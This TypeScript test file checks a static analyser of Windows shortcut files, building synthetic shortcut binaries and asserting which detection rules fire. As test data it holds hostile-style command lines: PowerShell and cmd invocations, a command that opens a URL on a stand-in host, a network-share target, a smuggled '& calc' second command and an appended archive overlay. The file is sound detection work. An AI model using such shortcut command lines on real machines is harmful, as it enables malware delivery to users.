import { describe, expect, test } from 'vitest';
import { readShortcut } from '../sandbox-runner/static/shortcut.ts';
import { shortcut, zip } from './samples/binaries.ts';

const u16 = (value: number) => Buffer.from([value & 255, value >> 8]);
const u32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
};
const sized = (body: Buffer) => Buffer.concat([u16(body.length + 2), body]);
const head = (flags: number) =>
  Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), u32(flags), Buffer.alloc(52)]);
const wide = (text: string) => Buffer.concat([u16(text.length), Buffer.from(text, 'utf16le')]);

/** A file or folder as Windows lists it: a short name, and the one that is shown in a block of version 9. */
function item(name: string, short = name, folder = true): Buffer {
  const long = Buffer.from(`${name}\0`, 'utf16le');
  const before = Buffer.concat([
    Buffer.from([folder ? 0x31 : 0x32, 0]),
    Buffer.alloc(10),
    Buffer.from(`${short}\0${short.length % 2 === 0 ? '\0' : ''}`),
  ]);
  const block = Buffer.concat([
    u16(48 + long.length),
    u16(9),
    Buffer.from('0400efbe', 'hex'),
    Buffer.alloc(38),
    long,
    u16(before.length + 2),
  ]);
  return sized(Buffer.concat([before, block]));
}
const list = (...items: Buffer[]) => {
  const body = Buffer.concat([
    sized(Buffer.concat([Buffer.from([0x1f, 0x50]), Buffer.alloc(16)])),
    sized(Buffer.concat([Buffer.from('/C:\\'), Buffer.alloc(19)])),
    ...items,
    u16(0),
  ]);
  return Buffer.concat([u16(body.length), body]);
};
const environment = (path: string) => {
  const block = Buffer.alloc(0x314);
  block.writeUInt32LE(0x314, 0);
  block.writeUInt32LE(0xa000_0001, 4);
  block.write(path, 8, 'latin1');
  block.write(path, 268, 'utf16le');
  return Buffer.concat([block, u32(0)]);
};
const read = (bytes: Buffer) => {
  const { signals, commands, members, facts } = readShortcut(bytes);
  return {
    rules: signals!.map((one) => one.rule),
    commands,
    members: members!.map((one) => one.name),
    target: (facts as { target: string }).target,
  };
};

describe('the target of a shortcut', () => {
  test('is found where only the list of items names it', () => {
    const bytes = Buffer.concat([
      head(0xa1),
      list(item('Windows'), item('System32'), item('powershell.exe', 'POWERS~1.EXE', false)),
      wide('-nop -c calc'),
    ]);
    expect(read(bytes)).toMatchObject({
      target: 'C:\\Windows\\System32\\powershell.exe',
      rules: ['assay-shortcut-shell'],
      commands: ['powershell.exe -nop -c calc'],
    });
  });
  test('is found where only the block of its environment names it', () => {
    expect(
      read(Buffer.concat([head(0x2a0), wide('/c start http://files.example-host.net/a'), environment('%ComSpec%')])),
    ).toMatchObject({
      rules: ['assay-shortcut-shell'],
      commands: ['cmd.exe /c start http://files.example-host.net/a'],
    });
  });
  test('is found on a share', () => {
    const share = Buffer.from('\\\\files.example-host.net\\a\0');
    const network = Buffer.concat([u32(20 + share.length), u32(2), u32(20), u32(0), u32(0), share]);
    const rest = Buffer.from('cmd.exe\0');
    const information = Buffer.concat([
      u32(28 + network.length + rest.length),
      u32(28),
      u32(2),
      u32(0),
      u32(0),
      u32(28),
      u32(28 + network.length),
      network,
      rest,
    ]);
    expect(read(Buffer.concat([head(0x82), information])).target).toBe('\\\\files.example-host.net\\a\\cmd.exe');
  });
  test('that differs from another one does not hide it', () => {
    const bytes = Buffer.concat([
      head(0x2a1),
      list(item('Windows'), item('notepad.exe', 'notepad.exe', false)),
      wide('/c calc'),
      environment('C:\\Windows\\System32\\cmd.exe'),
    ]);
    expect(read(bytes).commands).toEqual(['cmd.exe /c calc', 'notepad.exe /c calc']);
  });
});

describe('what stands behind the end of a shortcut', () => {
  test('is a member', () => {
    const script = Buffer.from('REM a script that the shortcut takes out of itself\r\n');
    const bytes = Buffer.concat([head(0xa0), wide('x'), u32(0), script, zip({ 'a.bat': '@echo off' })]);
    expect(read(bytes)).toMatchObject({ members: ['overlay'], rules: ['assay-shortcut-appended'] });
    expect(readShortcut(bytes).members![0]!.bytes.subarray(0, script.length)).toEqual(script);
  });
  test('is nothing when it is zeros, or a block of Windows', () => {
    expect(read(Buffer.concat([head(0xa0), wide('x'), environment('C:\\a.exe'), Buffer.alloc(400)])).members).toEqual(
      [],
    );
  });
});

describe('a prompt that stays open', () => {
  test.each([[''], ['/k "C:\\Program Files\\Tools\\env.bat" -arch=amd64'], ['/k C:\\Tools\\env.cmd']])(
    'is none that runs a command: cmd %s',
    (line) => {
      expect(read(shortcut('C:\\Windows\\System32\\cmd.exe', line)).rules).toEqual([]);
    },
  );
  test.each([
    ['/k C:\\Users\\Public\\a.bat'],
    ['/k a.bat'],
    ['/k "C:\\Tools\\env.bat" & calc'],
    ['/c C:\\Tools\\env.bat'],
    ['/k \\\\files.example-host.net\\a.bat'],
    ['/k %TEMP%\\a.bat'],
  ])('is one with anything else: cmd %s', (line) => {
    expect(read(shortcut('C:\\Windows\\System32\\cmd.exe', line)).rules).toEqual(['assay-shortcut-shell']);
  });
});
